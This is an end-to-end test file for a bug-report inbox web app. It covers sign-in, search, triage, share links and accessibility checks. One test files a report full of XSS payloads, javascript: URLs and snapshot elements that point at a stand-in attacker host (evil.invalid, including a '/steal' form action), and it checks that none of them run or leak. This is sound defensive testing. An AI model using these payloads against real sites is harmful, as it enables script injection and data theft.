// The team's inbox (/app/) in headless Chromium against the real relay: an engineer signs in,
// finds a report by search, opens it, sees the screenshot, the failing request and the page's
// snapshot, triages it, comments, shares it, and the share link opens signed out; keyboard
// navigation and bulk changes; reports full of attacks, where no script may run, no dialog
// open and no request leave for another host; axe-core on every page, light and dark, laptop
// and phone. Every app page is watched: an uncaught error in it fails the test.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";

import { localSite, openDemo, startStack } from "../support/demo.mjs";
import { createToken, relayCli } from "../support/relay.mjs";

const AXE = readFileSync(new URL("../../node_modules/axe-core/axe.min.js", import.meta.url), "utf8");

let stack;
let www;
let writer;
let password;
before(async () => {
  stack = await startStack();
  www = await localSite(stack);
  writer = createToken(stack.dataDir, ["reports:write"]).token;
  password = relayCli(stack.dataDir, ["users", "create", "ana", "--generate-password"]).password;
});
after(async () => {
  await www?.close();
  await stack?.close();
});

/** Fails the test on any uncaught error or dialog in an app page. */
function watch(page) {
  const problems = [];
  page.on("pageerror", (e) => problems.push(`uncaught: ${e.message}`));
  page.on("dialog", async (d) => {
    problems.push(`a ${d.type()} dialog opened: ${d.message()}`);
    await d.dismiss();
  });
  const close = page.close.bind(page);
  page.close = async () => {
    await close();
    assert.deepEqual(problems, [], "the app page had errors");
  };
  return problems;
}

async function signIn(context, name = "ana", pass = password) {
  const page = await context.newPage();
  watch(page);
  await page.goto(`${stack.relay.url}/app/`);
  assert.match(page.url(), /\/app\/sign-in\?next=/);
  await page.getByLabel("Name").fill(name);
  await page.getByLabel("Password").fill(pass);
  await page.getByRole("button", { name: "Sign in", exact: true }).click();
  await page.waitForURL(`${stack.relay.url}/app/`);
  return page;
}

async function api(method, path, body) {
  const res = await fetch(`${stack.relay.url}${path}`, {
    method,
    headers: { authorization: `Bearer ${writer}`, ...(body ? { "content-type": "application/json" } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  return { status: res.status, body: res.status === 204 ? null : await res.json() };
}

/** Files a report through the relay's API with the demo's key (the widget's path, minus the page). */
async function file(report) {
  const key = createKeyOnce();
  const res = await fetch(`${stack.relay.url}/v1/reports`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-bugcap-key": key, origin: "http://localhost:1" },
    body: JSON.stringify(report),
  });
  assert.equal(res.status, 201, await res.text());
  return report.id;
}
let apiKey;
function createKeyOnce() {
  apiKey ??= relayCli(stack.dataDir, ["keys", "create", "--project", "shop", "--env", "staging", "--origin", "http://localhost:1"]).key;
  return apiKey;
}

function report(overrides = {}) {
  return {
    id: randomUUID(),
    schema_version: 1,
    created_at: new Date().toISOString(),
    feedback: { text: "Something is off" },
    page: {
      url: "https://shop.example/cart",
      title: "Cart",
      viewport: { width: 1280, height: 800 },
      device_pixel_ratio: 1,
      user_agent: "Mozilla/5.0 Chrome/140",
    },
    client: { name: "bugcap", version: "0.1.0" },
    ...overrides,
  };
}

/** Waits until the report's declared media are all uploaded. */
async function mediaArrived(id) {
  for (let i = 0; i < 100; i++) {
    const { body } = await api("GET", `/v1/reports/${id}`);
    if (body.media.length && body.media.every((m) => m.status === "complete")) return body;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`the media of ${id} never arrived`);
}

describe("the inbox", () => {
  let widgetReport;
  before(async () => {
    // A real report from the demo page: a failing request, a console error, a screenshot.
    const { page } = await openDemo(stack.browser, `${www.url}/`);
    await page.click("#load");
    await page.waitForFunction(() => document.getElementById("app-status").textContent.includes("404"));
    await page.click("#save");
    widgetReport = await page.evaluate(async () => {
      const m = await import("/bugcap/index.js");
      return (await m.submit({ text: "Checkout total is wrong after the coupon\nSteps: add a coupon, open the cart", screenshot: true })).id;
    });
    await page.close();
    await mediaArrived(widgetReport);
    await file(report({ feedback: { text: "Search results flicker" } }));
    await file(report({ feedback: { text: "Dark mode contrast on settings" } }));
  });

  test("sign in, find a report by search, read it, triage, comment, share and open the link signed out", async () => {
    const context = await stack.browser.newContext();
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: stack.relay.url });
    const page = await signIn(context);
    assert.equal(await page.locator(".report-row").count(), 3);
    assert.equal(await page.locator(".report-row").first().locator(".row-title").textContent(), "Dark mode contrast on settings", "newest first");

    // "/" searches; the search is in the URL.
    await page.keyboard.press("/");
    await page.keyboard.type("coupon");
    await page.keyboard.press("Enter");
    await page.waitForURL(/q=coupon/);
    assert.equal(await page.locator(".report-row").count(), 1);
    const row = page.locator(".report-row").first();
    assert.equal(await row.locator(".row-title").textContent(), "Checkout total is wrong after the coupon", "the first line is the title");
    assert.match(await row.textContent(), /1 failed request/);
    assert.ok(await row.locator(".thumb img").evaluate((img) => img.complete && img.naturalWidth > 0 || new Promise((r) => img.addEventListener("load", () => r(img.naturalWidth > 0)))));

    // j selects the row, Enter opens it.
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    await page.waitForURL(`${stack.relay.url}/app/reports/${widgetReport}`);
    // The back button returns to the search, and from there to the whole inbox.
    await page.goBack();
    await page.waitForURL(/\/app\/\?q=coupon$/);
    assert.equal(await page.locator(".report-row").count(), 1);
    await page.goBack();
    await page.waitForURL(`${stack.relay.url}/app/`);
    assert.equal(await page.locator(".report-row").count(), 3);
    await page.goForward();
    await page.goForward();
    await page.waitForURL(`${stack.relay.url}/app/reports/${widgetReport}`);

    const shot = page.locator(".shot img");
    await shot.scrollIntoViewIfNeeded();
    assert.ok(await shot.evaluate((img) => (img.complete ? img.naturalWidth : new Promise((r) => img.addEventListener("load", () => r(img.naturalWidth))))) > 100, "the screenshot loads");
    await page.locator(".shot").click();
    assert.ok(await page.locator(".shot.zoomed").count(), "clicking zooms");

    const failed = page.locator(".network li.failed");
    assert.equal(await failed.count(), 1);
    assert.match(await failed.textContent(), /GET\s+404\s+\S*\/api\/notes/);
    const bar = await failed.locator(".bar > span").evaluate((s) => parseFloat(s.style.width));
    assert.ok(bar > 0, "the waterfall draws its bar");
    assert.match(await page.locator(".console").textContent(), /Saving settings failed/);
    // The level filter hides what is unticked.
    await page.locator(".levels input[value=error]").uncheck();
    assert.equal(await page.locator(".console li[data-level=error]:visible").count(), 0);
    assert.match(await page.locator(".context").first().textContent(), /1280|Viewport/);
    assert.match(await page.locator("#h-who + dl").textContent(), /demo-user-42/);

    // The page as it was, in the sandboxed frame.
    const frame = page.locator("iframe.dom");
    assert.equal(await frame.getAttribute("sandbox"), "", "no allow-* tokens");
    await frame.scrollIntoViewIfNeeded();
    await page.frameLocator("iframe.dom").locator("text=Save settings").waitFor();

    // Triage, comment.
    await page.getByLabel("Status").selectOption("triaged");
    await page.getByLabel("Assignee").fill("ana");
    await page.getByLabel("Labels").fill("checkout, p1");
    await page.getByRole("button", { name: "Save" }).click();
    await page.waitForLoadState();
    assert.equal(await page.locator(".report-meta .status").textContent(), "triaged");
    await page.getByLabel("Internal note").fill("Reproduced with coupon SAVE10.");
    await page.getByRole("button", { name: "Comment" }).click();
    await page.waitForURL(/#h-activity$/);
    const activity = await page.locator(".activity").textContent();
    assert.match(activity, /changed the status from new to triaged/);
    assert.match(activity, /Reproduced with coupon SAVE10\./);

    // Copy as Markdown, for the tracker.
    await page.getByRole("button", { name: "Copy as Markdown" }).click();
    await page.locator(".copied", { hasText: "Copied." }).waitFor();
    const markdown = await page.evaluate(() => navigator.clipboard.readText());
    assert.match(markdown, /Checkout total is wrong after the coupon/);
    assert.match(markdown, /Failed requests \(1\)/);

    // Share; the link opens the report signed out, without the team's notes.
    await page.getByRole("button", { name: "Make a read-only link" }).click();
    const link = await page.locator("input.share-link").inputValue();
    assert.match(link, /\/app\/s\/bc_shr_[0-9A-Za-z]{32}$/);
    const outsider = await stack.browser.newContext();
    const shared = await outsider.newPage();
    watch(shared);
    await shared.goto(link);
    assert.equal(await shared.locator("h1").textContent(), "Checkout total is wrong after the coupon");
    const sharedShot = shared.locator(".shot img");
    await sharedShot.scrollIntoViewIfNeeded();
    assert.ok(await sharedShot.evaluate((img) => (img.complete ? img.naturalWidth : new Promise((r) => img.addEventListener("load", () => r(img.naturalWidth))))) > 100);
    const text = await shared.locator("body").textContent();
    assert.doesNotMatch(text, /SAVE10|Triage|Sign out/);
    await shared.close();
    await outsider.close();

    // Sign out: the inbox asks to sign in again.
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.waitForURL(/\/app\/sign-in$/);
    await page.goto(`${stack.relay.url}/app/`);
    assert.match(page.url(), /\/app\/sign-in\?next=/);
    await page.close();
    await context.close();
  });

  test("keyboard: j and k move, x selects, and a bulk status change moves reports between tabs", async () => {
    const context = await stack.browser.newContext();
    const page = await signIn(context);
    await page.keyboard.press("j");
    await page.keyboard.press("j");
    await page.keyboard.press("k");
    assert.equal(await page.locator(".report-row.current").count(), 1);
    assert.equal(await page.locator(".report-row").nth(0).evaluate((r) => r.classList.contains("current")), true);
    await page.keyboard.press("x");
    await page.keyboard.press("j");
    await page.keyboard.press("x");
    const picked = await page.locator("#reports input[name=id]:checked").evaluateAll((boxes) => boxes.map((b) => b.value));
    assert.equal(picked.length, 2);
    await page.getByLabel("Set status").selectOption("resolved");
    await page.getByRole("button", { name: "Apply to selected" }).click();
    await page.waitForURL(`${stack.relay.url}/app/`);
    const open = await page.locator("#reports input[name=id]").evaluateAll((boxes) => boxes.map((b) => b.value));
    assert.ok(picked.every((id) => !open.includes(id)), "resolved reports leave the open tab");
    await page.getByRole("link", { name: "Resolved" }).click();
    await page.waitForURL(/status=resolved/);
    const resolved = await page.locator("#reports input[name=id]").evaluateAll((boxes) => boxes.map((b) => b.value));
    assert.deepEqual(resolved.sort(), picked.sort());
    await page.close();
    await context.close();
  });
});

describe("hostile reports", () => {
  const ATTACK = `<script>alert("text")</script><img src=x onerror=alert("img")><svg onload=alert("svg")>`;
  test("attacks in every field run nothing, open no dialog and fetch nothing from another host", async () => {
    const foreign = "http://evil.invalid:9";
    const id = await file(
      report({
        feedback: { text: `${ATTACK}\njavascript:alert(1)`, category: ATTACK, email: `"><script>alert(1)</script>@x.example` },
        page: {
          url: "javascript:alert('url')",
          title: ATTACK,
          referrer: `${foreign}/ref"><script>alert(1)</script>`,
          viewport: { width: 1280, height: 800 },
          device_pixel_ratio: 1,
          user_agent: ATTACK,
          language: "en",
          time_zone: ATTACK,
        },
        identity: { name: ATTACK, email: "victim@example.com", id: ATTACK },
        metadata: { plan: ATTACK },
        console: [{ level: "error", message: ATTACK, timestamp: 1, stack: ATTACK, args: [ATTACK] }],
        errors: [{ kind: "error", message: ATTACK, source: "javascript:alert(2)", line: 1, stack: ATTACK, timestamp: 1 }],
        network: [
          {
            kind: "fetch",
            method: "GET",
            url: `javascript:alert("net")`,
            status: 500,
            start_time: 1,
            duration_ms: 5,
            request_headers: { "x-evil": ATTACK },
            response_headers: { "content-type": `text/html"><script>alert(1)</script>` },
            response_body: { content_type: "text/html", text: `${ATTACK}<meta http-equiv="refresh" content="0;url=${foreign}/">` },
          },
        ],
        dom: {
          format: "rrweb-snapshot",
          node: {
            type: 0,
            childNodes: [
              { type: 1, name: "html", publicId: "", systemId: "" },
              {
                type: 2,
                tagName: "html",
                attributes: {},
                childNodes: [
                  {
                    type: 2,
                    tagName: "head",
                    attributes: {},
                    childNodes: [
                      { type: 2, tagName: "meta", attributes: { "http-equiv": "refresh", content: `0;url=${foreign}/refresh` }, childNodes: [] },
                      { type: 2, tagName: "base", attributes: { href: `${foreign}/` }, childNodes: [] },
                      { type: 2, tagName: "link", attributes: { rel: "stylesheet", href: `${foreign}/a.css` }, childNodes: [] },
                      { type: 2, tagName: "script", attributes: { src: `${foreign}/x.js` }, childNodes: [{ type: 3, textContent: "top.alert('dom script')" }] },
                      { type: 2, tagName: "style", attributes: {}, childNodes: [{ type: 3, textContent: `body{background:url(${foreign}/bg.png)} @import url(${foreign}/i.css); @font-face{font-family:x;src:url(${foreign}/f.woff)} </style><script>alert(1)</script>`, isStyle: true }] },
                    ],
                  },
                  {
                    type: 2,
                    tagName: "body",
                    attributes: { onload: "top.alert('onload')", style: `background-image:url(${foreign}/inline.png);font-family:x` },
                    childNodes: [
                      { type: 2, tagName: "h1", attributes: {}, childNodes: [{ type: 3, textContent: "Masked page heading" }] },
                      { type: 2, tagName: "img", attributes: { src: `${foreign}/pixel.gif`, srcset: `${foreign}/a.png 2x`, onerror: "top.alert('img')" }, childNodes: [] },
                      { type: 2, tagName: "a", attributes: { href: "javascript:top.alert('link')" }, childNodes: [{ type: 3, textContent: "a link" }] },
                      { type: 2, tagName: "iframe", attributes: { srcdoc: "<script>top.alert('srcdoc')</script>", src: `${foreign}/frame` }, childNodes: [] },
                      { type: 2, tagName: "object", attributes: { data: `${foreign}/o.swf` }, childNodes: [] },
                      {
                        type: 2,
                        tagName: "svg",
                        attributes: { onload: "top.alert('svg')" },
                        isSVG: true,
                        childNodes: [
                          { type: 2, tagName: "script", attributes: {}, isSVG: true, childNodes: [{ type: 3, textContent: "top.alert('svg script')" }] },
                          { type: 2, tagName: "image", attributes: { href: `${foreign}/svg.png` }, isSVG: true, childNodes: [] },
                          { type: 2, tagName: "a", attributes: { "xlink:href": "javascript:top.alert(1)" }, isSVG: true, childNodes: [] },
                        ],
                      },
                      { type: 2, tagName: "form", attributes: { action: `${foreign}/steal` }, childNodes: [{ type: 2, tagName: "button", attributes: { formaction: "javascript:top.alert(1)" }, childNodes: [{ type: 3, textContent: "go" }] }] },
                      { type: 2, tagName: "video", attributes: { poster: `${foreign}/poster.png` }, childNodes: [] },
                    ],
                  },
                ],
              },
            ],
          },
        },
      }),
    );
    const token = (await api("POST", `/v1/reports/${id}/shares`)).body.token;

    const context = await stack.browser.newContext();
    // Chromium reports a request the CSP stopped as a request that failed with "csp": it never
    // left the browser. Any other request to another host did.
    const foreignRequests = [];
    const stoppedByCsp = new Set();
    context.on("request", (req) => {
      const url = new URL(req.url());
      if (url.protocol !== "data:" && url.origin !== stack.relay.url) foreignRequests.push(req);
    });
    context.on("requestfailed", (req) => {
      if (req.failure()?.errorText === "csp") stoppedByCsp.add(req);
    });
    const page = await signIn(context);
    const problems = watch(page);
    for (const path of ["/app/?status=all", `/app/reports/${id}`, `/app/s/${token}`, `/app/reports/${id}/dom`, `/app/s/${token}/dom`]) {
      await page.goto(`${stack.relay.url}${path}`);
      await page.waitForLoadState("load");
      if (path.endsWith(id)) {
        // Open every detail, click the link, let the frame load.
        await page.locator("details").evaluateAll((all) => all.forEach((d) => (d.open = true)));
        await page.locator("iframe.dom").scrollIntoViewIfNeeded();
        await page.frameLocator("iframe.dom").locator("text=Masked page heading").waitFor();
        await page.frameLocator("iframe.dom").locator("text=a link").click();
        await page.frameLocator("iframe.dom").locator("text=go").click();
        assert.equal(await page.locator(`a[href^="javascript:"]`).count(), 0, "a javascript: URL is never a link");
        assert.match(await page.locator(".user-text").textContent(), /<script>alert\("text"\)<\/script>/, "shown as text");
      }
      await page.waitForTimeout(300);
    }
    assert.deepEqual(problems, [], "no script ran and no dialog opened");
    const leaks = foreignRequests.filter((req) => !stoppedByCsp.has(req)).map((req) => req.url());
    assert.deepEqual(leaks, [], "no request left for a host other than the relay");
    assert.ok(stoppedByCsp.size > 0, "the snapshot's CSS url()s were tried and stopped by the frame's CSP");
    await page.close();
    await context.close();
  });
});

describe("accessibility and layout", () => {
  test("axe-core finds no serious or critical violations on any page, light and dark, laptop and phone", async () => {
    const id = await file(report({ feedback: { text: "Axe check\nwith two lines" }, console: [{ level: "warn", message: "slow", timestamp: 2 }], network: [{ kind: "fetch", method: "POST", url: "https://shop.example/api", status: 502, start_time: 10, duration_ms: 120 }] }));
    const token = (await api("POST", `/v1/reports/${id}/shares`)).body.token;
    const pages = ["/app/sign-in", "/app/", `/app/reports/${id}`, `/app/s/${token}`];
    // An account of its own: the four sign-ins below, with the other tests' three as ana, would
    // pass the sign-in limit of five a minute per account.
    const axePassword = relayCli(stack.dataDir, ["users", "create", "axe", "--generate-password"]).password;
    for (const colorScheme of ["light", "dark"]) {
      for (const viewport of [{ width: 1366, height: 768 }, { width: 390, height: 844 }]) {
        // axe is injected as a script: this context alone lets it past the CSP.
        const context = await stack.browser.newContext({ bypassCSP: true, colorScheme, viewport });
        const page = await context.newPage();
        watch(page);
        for (const path of pages) {
          if (path === "/app/") {
            await page.goto(`${stack.relay.url}/app/sign-in`);
            await page.getByLabel("Name").fill("axe");
            await page.getByLabel("Password").fill(axePassword);
            await page.getByRole("button", { name: "Sign in", exact: true }).click();
            await page.waitForURL(`${stack.relay.url}/app/`);
          } else {
            await page.goto(`${stack.relay.url}${path}`);
          }
          await page.addScriptTag({ content: AXE });
          const found = await page.evaluate(async () => {
            const result = await window.axe.run(document, { resultTypes: ["violations"] });
            return result.violations.filter((v) => v.impact === "serious" || v.impact === "critical").map((v) => `${v.id}: ${v.help} (${v.nodes.map((n) => n.target.join(" ")).slice(0, 3).join(", ")})`);
          });
          assert.deepEqual(found, [], `${path} in ${colorScheme} at ${viewport.width}px`);
          const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
          assert.ok(overflow <= 0, `${path} scrolls sideways by ${overflow}px at ${viewport.width}px`);
        }
        await page.close();
        await context.close();
      }
    }
  });
});
